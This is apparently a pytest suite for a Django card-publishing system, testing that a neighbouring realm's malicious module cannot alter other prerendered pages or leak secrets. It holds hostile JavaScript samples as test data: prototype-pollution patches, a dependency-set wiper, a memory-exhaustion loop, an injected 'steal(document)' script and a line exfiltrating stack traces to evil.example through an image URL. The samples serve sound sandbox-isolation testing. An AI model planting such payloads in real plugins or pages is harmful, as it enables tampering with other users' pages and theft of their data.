"""Tests malicious code in Eve's realm. Cards of Ada's realm link to Eve's cards. The code changes
only pages that show Eve's cards, because a worker renders these pages in a sandbox of their own.
After Eve fixes the code, the next render restores the pages."""

import json
import re
from typing import Any

import pytest
from django.db import transaction

from realms.models import Realm
from realms.publishing.bootstrap import sync_base_realm
from realms.serving.drafts import ask_for_index
from reindex import tasks
from reindex.jobs import queue, turns
from reindex.models import ReindexJob
from reindex.prerender import cards
from reindex.prerender.results import Message, checked_card
from tests.support import make
from tests.support.rendering import WORK, index_of, work_off
from tests.support.web import Web

SITE = "http://ada.localhost:4201/"
SOURCE = "http://localhost:4201/ada/site/"
EVE = "http://localhost:4201/eve/lib/"
BOB = "http://localhost:4201/bob/lib/"
Sent = list[tuple[str, Any]]

POST = b"""\
import { Card, Embed, linksTo, string } from "@realm/base";
export class Post extends Card {
  static fields = { title: string(), author: linksTo(() => Card) };
  static isolated = ({ card }) => (
    <p>{[card.title, "by"].join(" ")} <Embed card={card.author} /></p>
  );
}
"""

PERSON = """\
import {{ Card, string }} from "@realm/base";
{spoil}
export class Person extends Card {{
  static fields = {{ name: string() }};
  static embedded = ({{ card }}) => <b>{{card.name}}</b>;
}}
"""

#: Code for Eve's module, by what it attacks. It tries to change pages that are rendered later.
SPOIL = {
    "Preact's options": """
        import * as preact from "preact";
        if (preact.options) preact.options.vnode = (vnode) => { vnode.props.title = "EVIL"; };""",
    "the language": 'try { Array.prototype.join = () => "EVIL"; } catch {}',
    "Preact's classes": """
        import { Component } from "preact";
        try { Component.prototype.render = () => "EVIL"; } catch {}""",
    "the card library": 'try { Card.isolated = Card.template = () => "EVIL"; } catch {}',
    "the page's own type": f"""
        import {{ Post }} from "{SITE}post.tsx";
        Post.isolated = () => "EVIL";""",
    "a card of the page's realm": """
        const evil = { stringify: () => "EVIL" };
        queueMicrotask(() => { try { globalThis.JSON = evil; } catch {} });""",
}


def person(spoil: str = "") -> bytes:
    return PERSON.format(spoil=spoil).encode()


def post(title: str, author: str = "") -> bytes:
    return make.card("./post", "Post", {"author": author} if author else None, title=title)


@pytest.fixture
def site(web: Web, owner: Any) -> Realm:
    """Returns Ada's source realm with nine posts. Four posts have Eve's card as their author, one
    post has Bob's card, and four posts have no author."""
    sync_base_realm()
    for url, name in ((EVE, "eve"), (BOB, "bob")):
        card = make.card("./person", "Person", name=name.title())
        make.source(url, make.user(name), {"person.tsx": person(), f"{name}.json": card})
    files = {"post.tsx": POST, "bobs.json": post("bobs", f"{BOB}bob")}
    for at in range(4):
        files[f"eves-{at}.json"] = post(f"eves {at}", f"{EVE}eve")
        files[f"own-{at}.json"] = post(f"own {at}")
    return make.source(SOURCE, owner, files)


def pages() -> dict[str, str]:
    """Returns a text for each page in the index of Ada's published realm, by the page's path. The
    text contains the page's HTML, search data and error."""
    return {
        path: json.dumps([row.html, row.search, row.error], sort_keys=True)
        for path, row in index_of(SITE).items()
    }


def rendered(site: Realm, sent: Sent, *, full: bool = False) -> dict[str, str]:
    """Publishes and renders the site, and returns its pages. If `full` is true, every page is
    rendered. Otherwise, pages that no change affects are kept from the last index."""
    published = make.publish(site, SITE)
    if full:
        with transaction.atomic():
            queue.enqueue_job(SITE, published.generation, full=True)
    sent[:] = [WORK]
    work_off(sent)
    return pages()


@pytest.mark.parametrize("what", SPOIL)
def test_malicious_code_of_a_neighbour_changes_only_pages_that_show_it(
    site: Realm, sent: Sent, what: str
) -> None:
    eve = Realm.objects.get(url=EVE)
    clean = rendered(site, sent)
    make.write(eve, person__tsx=person(SPOIL[what]))
    poisoned = rendered(site, sent, full=True)
    assert poisoned.keys() == clean.keys()
    for path in clean:
        if not path.startswith("eves-"):
            assert poisoned[path] == clean[path], (path, poisoned[path])


@pytest.mark.parametrize("what", ["the page's own type", "Preact's options"])
def test_pages_are_restored_when_the_neighbours_code_is_fixed(
    site: Realm, sent: Sent, what: str
) -> None:
    eve = Realm.objects.get(url=EVE)
    clean = rendered(site, sent)
    make.write(eve, person__tsx=person(SPOIL[what]))
    rendered(site, sent, full=True)
    make.write(eve, person__tsx=person())
    assert rendered(site, sent) == clean


def test_pages_without_links_to_the_neighbour_show_nothing_of_it(site: Realm, sent: Sent) -> None:
    make.write(Realm.objects.get(url=EVE), person__tsx=person(SPOIL["the page's own type"]))
    rendered(site, sent, full=True)
    make.write_paths(site, {f"eves-{at}.json": post(f"eves {at}") for at in range(4)})
    shown = rendered(site, sent)
    assert all("EVIL" not in page for page in shown.values())


def test_a_page_depends_on_all_modules_of_its_sandbox(site: Realm, sent: Sent) -> None:
    """One sandbox renders the four pages that show Eve's cards. Of these pages, only `eves-0` shows
    a card of Eve's module other.tsx, which the test then changes."""
    eve = Realm.objects.get(url=EVE)
    make.write(eve, other__tsx=person().replace(b"Person", b"Other"))
    make.write_paths(eve, {"other.json": make.card("./other", "Other", name="Other")})
    make.write_paths(site, {"eves-0.json": post("eves 0", f"{EVE}other")})
    rendered(site, sent)
    make.write(eve, other__tsx=person("// changed").replace(b"Person", b"Other"))
    rendered(site, sent)
    job = ReindexJob.objects.filter(realm_url=SITE).latest("pk")
    # The job renders all four pages that show Eve's cards, and keeps the other five pages.
    assert (job.rendered, job.carried) == (4, 5)


def test_a_card_that_leads_indirectly_to_another_realm_is_rendered_apart(
    site: Realm, sent: Sent
) -> None:
    """Ada's cards `far-0` to `far-2` link to Ada's card `near`, and `near` links to Eve's card."""
    near = POST.replace(b"<p>", b"<q>").replace(b"</p>", b"</q>").replace(b"isolated", b"embedded")
    files = {
        "near.tsx": near,
        "near.json": make.card("./near", "Post", {"author": f"{EVE}eve"}, title="near"),
        **{f"far-{at}.json": post(f"far {at}", "./near") for at in range(3)},
    }
    make.write_paths(site, files)
    make.write(Realm.objects.get(url=EVE), person__tsx=person(SPOIL["the language"]))
    shown = rendered(site, sent, full=True)
    assert all("EVIL" not in page for path, page in shown.items() if path.startswith("own-"))
    assert "<b>Eve</b>" in shown["near"]
    assert len(shown) == 13


#: Imports in Ada's module hub.tsx that load Eve's code, directly or through the module wrap.tsx or
#: it's.tsx. Before the rendering, the worker searches modules for imports, but misses these.
UNSEEN = {
    "a computed name": b"""
const name = ["wr", "ap.tsx"].join("");
const { Person } = await import(`./${name}`);""",
    "a quote in a name": b"""import { Person } from "./it's.tsx";""",
    "a name of another realm": b"""
const url = ["http://localhost:4201", "eve", "lib", "person.tsx"].join("/");
const { Person } = await import(url);""",
}


@pytest.mark.parametrize("way", UNSEEN)
def test_code_of_another_realm_is_always_loaded_in_its_own_sandbox(
    web: Web, site: Realm, sent: Sent, way: str
) -> None:
    """If Ada's module requests Eve's code while the card `hub` is rendered, the worker refuses the
    request, and renders `hub` again in the sandbox for Eve's code. No other page is affected."""
    wrap = f'export {{ Person }} from "{EVE}person.tsx";'.encode()
    hub = (
        POST.replace(b"Embed, ", b"")
        + UNSEEN[way]
        + b"""
const shown = Person.embedded;
export class Hub extends Post { static isolated = () => <p>{shown({ card: { name: "hub" } })}</p>; }
"""
    )
    hub = hub.replace(b"<Embed card={card.author} />", b"")
    files = {"wrap.tsx": wrap, "it's.tsx": wrap, "hub.tsx": hub}
    make.write_paths(site, {**files, "hub.json": make.card("./hub", "Hub")})
    clean = rendered(site, sent, full=True)
    assert "<b>hub</b>" in clean["hub"]
    eve = Realm.objects.get(url=EVE)
    spoil = SPOIL["the page's own type"] + 'Post.fields.title.read = () => "EVIL";'
    make.write(eve, person__tsx=person(f"try {{ {spoil.split(';', 1)[1]} }} catch {{}}"))
    poisoned = rendered(site, sent, full=True)
    for path in clean:
        if path not in ("hub", *(f"eves-{at}" for at in range(4))):
            assert poisoned[path] == clean[path], path
    page = web.get(f"{SITE}hub", "text/html")
    assert "script-src 'none'" in page.headers["content-security-policy"]
    make.write(eve, person__tsx=person())
    assert rendered(site, sent) == clean


def test_a_card_that_javascript_parses_differently_is_rendered_apart(
    site: Realm, sent: Sent
) -> None:
    """Eve's card names its module by a URL with backslashes. JavaScript resolves this URL to Ada's
    module fan.tsx, which imports Eve's code. Python resolves the URL differently."""
    eve = Realm.objects.get(url=EVE)
    fan = f'import {{ Person }} from "{EVE}person.tsx"; export class Fan extends Person {{}}'
    make.write_paths(site, {"fan.tsx": fan.encode()})
    odd = make.card(f"{SITE}x\\..\\fan.tsx", "Fan", name="Eve")
    make.write_paths(eve, {"eve.json": odd})
    clean = rendered(site, sent, full=True)
    make.write(eve, person__tsx=person(SPOIL["the language"] + SPOIL["Preact's options"]))
    poisoned = rendered(site, sent, full=True)
    assert {path for path in clean if clean[path] != poisoned[path]} <= {
        f"eves-{at}" for at in range(4)
    }


def test_a_page_depends_on_an_import_that_was_found_while_rendering(
    site: Realm, sent: Sent
) -> None:
    tsx = b"""import { Card } from "@realm/base"; import { text } from "./it's.tsx";
export class Odd extends Card { static isolated = () => <p>{text}</p>; }"""
    make.write_paths(site, {"odd.tsx": tsx, "it's.tsx": b'export const text = "old";',
                            "odd.json": make.card("./odd", "Odd")})  # fmt: skip
    assert "old" in rendered(site, sent)["odd"]
    make.write_paths(site, {"it's.tsx": b'export const text = "new";'})
    assert "<p>new</p>" in rendered(site, sent)["odd"]


def test_a_template_of_another_realm_can_not_hide_what_its_page_shows(
    site: Realm, sent: Sent
) -> None:
    """Eve's code tries to clear the renderer's set `used` of the cards that a page depends on. If
    Bob's card were missing from the set, a change of the card would not change the page."""
    spoil = """
        const clear = (o, depth = 0, seen = new Set()) => {
          if (o === null || typeof o !== "object" || seen.has(o) || depth > 9) return;
          seen.add(o);
          try { o.used?.clear(); } catch {}
          for (const key of Reflect.ownKeys(o)) { try { clear(o[key], depth + 1, seen); } catch {} }
        };"""
    shows = person(spoil).replace(b"<b>", b"<b>{clear(card) ?? null}")
    make.write(Realm.objects.get(url=EVE), person__tsx=shows)
    make.write_paths(site, {
        "pair.tsx": POST.replace(b"author: linksTo", b"other: linksTo(() => Card), author: linksTo")
        .replace(b"<p>{", b"<p><Embed card={card.other} />{"),
        "pair.json": make.card("./pair", "Post", {"author": f"{EVE}eve", "other": f"{BOB}bob"}),
    })  # fmt: skip
    assert "Bob" in rendered(site, sent)["pair"]
    bob = Realm.objects.get(url=BOB)
    make.write_paths(bob, {"bob.json": make.card("./person", "Person", name="Robert")})
    assert "Robert" in rendered(site, sent)["pair"]


def test_a_card_that_is_moved_and_then_crashes_has_one_result(site: Realm, sent: Sent) -> None:
    crash = b"""import { Card, Embed, linksTo } from "@realm/base";
let times = 0;
export class Pair extends Card {
  static fields = { near: linksTo(() => Card) };
  static isolated = ({ card }) => {
    if (++times > 1) { const held = []; for (;;) held.push(new Array(1e6).fill(1.5)); }
    return <p><Embed card={card.near} /></p>;
  };
}"""
    near = POST.replace(b"isolated", b"embedded")
    make.write_paths(site, {
        "crash.tsx": crash, "near.tsx": near,
        "near.json": make.card("./near", "Post", {"author": f"{EVE}eve"}, title="near"),
        "crash.json": make.card("./crash", "Pair", {"near": "./near"}),
    })  # fmt: skip
    shown = rendered(site, sent)
    assert len(shown) == 11
    assert "EVIL" not in "".join(shown.values())


LEAKS = """\
import { Card } from "@realm/base";
const hex = (text) => [...text].map((each) => each.charCodeAt(0).toString(16)).join("");
const thrown = () => { try { null.x } catch (e) { return e.stack } };
const seen = [import.meta.url, new Error("x").stack, thrown()];
export const leak = hex(seen.join(" "));
export class Leak extends Card {
  static isolated = () => <p>[{leak}]<img src={"https://evil.example/?" + leak} /></p>;
}
"""


def test_card_code_cannot_see_a_pin_or_the_address_of_a_replica(
    web: Web, site: Realm, owner: Any, sent: Sent
) -> None:
    """The code in LEAKS looks for a pin (a worker's token for reading a realm) and other secrets.
    The code is in the rendered realm, or in a public library that the rendered private realm
    imports."""
    lib = Realm.objects.get(url=EVE)
    make.write(lib, leak__tsx=LEAKS.encode())
    uses = f'export {{ Leak }} from "{EVE}leak.tsx";'.encode()
    private = "http://localhost:4201/ada/private/"
    make.source(private, owner, {"uses.tsx": uses, "index.json": make.card("./uses", "Leak")},
                public=False)  # fmt: skip
    make.write_paths(site, {"leak.tsx": LEAKS.encode(), "leak.json": make.card("./leak", "Leak")})
    make.publish(site, SITE)
    work_off(sent)
    ask_for_index(private)
    work_off(sent)
    for url, path, module in ((SITE, "leak", f"{SITE}leak.tsx"), (private, "index", f"{EVE}leak")):
        row = index_of(url)[path]
        assert row.error is None, row.error
        (found,) = re.findall(r"\[([0-9a-f]+)\]", row.html["isolated"])
        told = bytes.fromhex(found).decode()
        assert module in told
        for secret in ("/_at/", "127.0.0.1", "file:", "eyJ"):
            assert secret not in told, told


SCRIPT = """\
import { Card } from "@realm/base";
export class Script extends Card {
  static embedded = () => <script dangerouslySetInnerHTML={{ __html: "steal(document)" }} />;
}
"""


def test_a_strangers_script_does_not_run_on_a_page_that_shows_its_card(
    web: Web, site: Realm, owner: Any, sent: Sent
) -> None:
    """Scripts run only on pages that show no card of another owner's realm."""
    shared = "http://localhost:4201/ada/shared/"
    make.source(shared, owner, {"script.tsx": SCRIPT.encode(),
                                "all.json": make.card("./script", "Script")})  # fmt: skip
    eve = Realm.objects.get(url=EVE)
    make.write_paths(eve, {"script.tsx": SCRIPT.encode(),
                           "all.json": make.card("./script", "Script")})  # fmt: skip
    make.write_paths(site, {
        "eves.json": post("eves", f"{EVE}all"),
        "shared.json": post("shared", f"{shared}all"),
        "own.tsx": SCRIPT.encode(),
        "own.json": make.card("./own", "Script"),
        "404.json": post("not there", f"{EVE}all"),
    })  # fmt: skip
    rendered(site, sent)

    def policy(path: str) -> str:
        page = web.get(SITE + path, "text/html")
        assert page.status == (404 if path == "nowhere" else 200)
        return page.headers.get("content-security-policy", "")

    assert "script-src 'none'" in policy("eves")
    assert "script-src 'none'" in policy("nowhere")
    assert "steal(document)" in web.get(f"{SITE}eves", "text/html").text
    assert policy("shared") == policy("own") == policy("own-1") == ""


def test_a_turn_that_ends_keeps_all_rendered_cards(
    site: Realm, sent: Sent, monkeypatch: pytest.MonkeyPatch
) -> None:
    rendered_cards: list[str] = []

    def counted(result: Message) -> Message:
        rendered_cards.append(result["url"].removeprefix(SITE))
        return checked_card(result)

    def others_wait(turn: turns.Turn) -> bool:
        """Replaces `Turn.is_over`, as if another owner always waited. Ends a worker's turn if a
        card has been rendered since the last call for this turn."""
        before, turn.__dict__["seen"] = turn.__dict__.get("seen"), len(rendered_cards)
        return before is not None and before < len(rendered_cards)

    # With LOOK_SECONDS = 0, the worker checks after each card and before each request whether its
    # turn is over.
    monkeypatch.setattr(tasks, "LOOK_SECONDS", 0)
    monkeypatch.setattr(turns.Turn, "is_over", others_wait)
    monkeypatch.setattr(cards, "checked_card", counted)
    shown = rendered(site, sent)
    assert len(shown) == 9
    assert sorted(rendered_cards) == sorted(shown)
